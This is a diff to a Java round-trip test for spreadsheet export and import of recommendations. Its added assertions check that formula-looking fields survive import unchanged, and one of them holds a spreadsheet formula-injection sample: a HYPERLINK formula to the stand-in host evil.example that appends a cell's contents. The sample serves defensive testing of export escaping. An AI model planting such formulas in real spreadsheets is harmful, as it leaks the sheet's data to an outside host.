@@ -15,7 +15,8 @@ import org.springframework.beans.factory.annotation.Autowired;
  * The second half of the export round trip: importing/exported-recommendations.xlsx is what
  * query-service's export wrote for its ExportTest story (that test checks the file still matches
  * the export). Imported into a system that has none of its recommendations, it yields the same
- * recommendations, responses, plan and visit; imported again, nothing new.
+ * recommendations, responses, plan and visit (text that the export wrote with a leading quote, so
+ * that no spreadsheet runs it as a formula, included); imported again, nothing new.
  */
 @ImportingTest
 class ExportRoundTripTest {
@@ -31,7 +32,7 @@ class ExportRoundTripTest {
         try (InputStream in = getClass().getResourceAsStream("/importing/exported-recommendations.xlsx")) {
             exported = in.readAllBytes();
         }
-        Answer imported = Uploads.xlsx(api, "createMissing=true", exported);
+        Answer imported = Uploads.xlsx(api.as("admin"), "createMissing=true", exported);
         assertThat(imported.status()).as(imported.body()).isEqualTo(200);
         assertThat(imported.json().get("rows").toString())
                 .isEqualTo("{\"recommendations\":2,\"responses\":1,\"action-plans\":2,\"follow-up-visits\":1}");
@@ -55,6 +56,10 @@ class ExportRoundTripTest {
         assertThat(r2.get("confidential").asBoolean()).isTrue();
         assertThat(r2.get("placeId").isNull()).isTrue();
         assertThat(r2.get("source").toString()).isEqualTo("{\"kind\":\"THEMATIC_REPORT\",\"documentReference\":null}");
+        // Written with a leading quote so that no spreadsheet runs them; imported as recorded.
+        assertThat(r2.get("title").asText()).isEqualTo("=HYPERLINK(\"https://evil.example/?d=\"&B5,\"End the use of restraint beds\")");
+        assertThat(r2.get("text").asText()).isEqualTo("'=A1 is how a spreadsheet shows a formula as text. Restraint beds should be removed.");
+        assertThat(r2.get("standards").toString()).isEqualTo("[\"@SPT guidance on restraint\"]");
 
         String id = r1.get("recommendationId").asText();
         JsonNode response = entry(id, "AuthorityResponseRecorded");
